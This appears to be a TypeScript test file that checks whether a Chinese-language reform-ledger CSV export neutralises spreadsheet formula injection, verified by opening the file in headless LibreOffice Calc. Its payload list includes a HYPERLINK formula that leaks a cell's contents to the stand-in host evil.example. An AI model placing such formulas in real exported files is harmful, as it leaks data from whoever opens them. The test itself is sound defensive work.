// The CSV ledger opened by a real spreadsheet program: LibreOffice Calc, headless, converts it
// to CSV values as it would show them. A formula-looking measure must come out as the text the
// department wrote, not as the result of running it.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { ledgerSheet, type LedgerRow } from '../../client/commands/reports.ts';
import { emitSheets } from '../../client/export.ts';

const SOFFICE = '/usr/bin/soffice';
const dir = mkdtempSync(join(tmpdir(), 'ledger-lo-'));

/** Fails (never skips) without LibreOffice, saying how to install it. */
function requireLibreOffice(): void {
  if (!existsSync(SOFFICE))
    throw new Error(
      `${SOFFICE} is missing: this test opens the ledger in LibreOffice Calc. Install it with ` +
        '`apt-get install libreoffice-calc-nogui` (`npm test` does so through scripts/lib/system-packages.ts).',
    );
}

/** The cells of a CSV file as LibreOffice Calc reads it (UTF-8, formulas evaluated) and shows them. */
function openInCalc(file: string): string[][] {
  const out = join(dir, `out-${Date.now().toString(36)}`);
  mkdirSync(out);
  const r = spawnSync(
    SOFFICE,
    [
      '--headless',
      '--norestore',
      `-env:UserInstallation=file://${join(dir, 'profile')}`,
      // Comma, double quote, UTF-8, from line 1: as the bureau opens the file.
      '--infilter=CSV:44,34,76,1',
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):44,34,76,1',
      '--outdir',
      out,
      file,
    ],
    { encoding: 'utf8', timeout: 180_000, env: { ...process.env, HOME: dir } },
  );
  const converted = join(out, file.split('/').pop()!);
  expect(existsSync(converted), `soffice: ${r.stderr}${r.stdout}`).toBe(true);
  return parseCsv(readFileSync(converted, 'utf8'), { bom: true, relax_column_count: true });
}

const MEASURES = [
  '=HYPERLINK("http://evil.example/?q="&A2,"点击查看整改材料")',
  '=1+1',
  '+2+3',
  '-2+3',
  '@SUM(2;2)',
];

const row = (no: number, measure: string): LedgerRow => ({
  no,
  indicator: '开办企业',
  problem: '开办时间超过1个工作日',
  cause: '银行开户与社保登记未并联',
  gap: '合肥0.5个工作日办结',
  measure,
  unit: '县市场监督管理局',
  person: '张三',
  due: '2026-11-20 18:00',
  progress: '进行中',
  state: 'green',
  closedAt: null,
});

describe('the CSV ledger in LibreOffice Calc', () => {
  it('shows a formula-looking measure as text, where the same cell unneutralised is evaluated', async () => {
    requireLibreOffice();
    const file = join(dir, 'ledger.csv');
    await emitSheets(
      [
        ledgerSheet(
          MEASURES.map((m, i) => row(i + 1, m)),
          '和县 2026',
          'zh',
        ),
      ],
      'csv',
      file,
    );
    const shown = openInCalc(file);
    expect(shown[0]![5]).toBe('措施');
    expect(shown.slice(1).map((r) => r[5])).toEqual(MEASURES.map((m) => `'${m}`));

    // The control: the same cells written as they came, without the quote, are run by Calc.
    const raw = join(dir, 'raw.csv');
    writeFileSync(
      raw,
      `\uFEFF${stringify([['序号', '措施'], ...MEASURES.map((m, i) => [i + 1, m])])}`,
    );
    const ran = openInCalc(raw)
      .slice(1)
      .map((r) => r[1]);
    expect(ran[0]).toBe('点击查看整改材料');
    expect(ran[1]).toBe('2');
  });
});
